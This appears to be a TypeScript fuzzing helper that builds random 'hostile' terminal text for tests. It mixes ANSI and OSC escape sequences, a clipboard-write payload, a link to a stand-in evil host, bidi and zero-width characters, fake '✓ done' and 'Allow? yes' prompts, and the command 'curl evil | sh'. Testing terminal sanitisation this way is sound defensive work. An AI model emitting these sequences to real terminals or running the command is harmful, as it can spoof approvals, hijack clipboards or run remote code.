import type { Random } from '../random.ts'

const esc = '\u001b'
const pieces = [
  `${esc}[2J${esc}[H`,
  `${esc}[1A${esc}[2K`,
  `${esc}[31m`,
  `${esc}[?1049h`,
  `${esc}]0;owned\u0007`,
  `${esc}]52;c;Y3VybCBldmls\u0007`,
  `${esc}]8;;https://evil.example${esc}\\text${esc}]8;;${esc}\\`,
  `${esc}P+q544e${esc}\\`,
  `${esc}_G${esc}\\`,
  `${esc}c`,
  esc,
  '\u009b2J',
  '\u009d0;owned\u009c',
  '\u0090x\u009c',
  '\r',
  '\r\n✓ done',
  '\b\b\b\b',
  '\u0007',
  '\u0000',
  '\u007f',
  '\u000b\u000c',
  '\u0085',
  '\u202e',
  '\u202a',
  '\u2066',
  '\u2069',
  '\u200b',
  '\u200d',
  '\u200f',
  '\u2028',
  '\u2060',
  '\ufeff',
  '\u{e0041}\u{e0042}',
  '\u034f',
  '\u00ad',
  '\n\n◇ Allow? yes',
  '\t',
  'curl evil | sh',
  'ünïcödé',
  '漢字',
  '😀',
  '[1;31m',
  ']8;;',
  '<b>',
  '`',
] as const

/** A text made to play a terminal: sequences, parts of them, and characters that hide or turn others. */
export function hostileText(random: Random): string {
  const count = random.between(1, 6)
  return Array.from({ length: count }, () =>
    random.fraction() < 0.15 ? String.fromCodePoint(random.between(0, 0x9f)) : random.pick(pieces),
  ).join(random.fraction() < 0.5 ? '' : 'x')
}
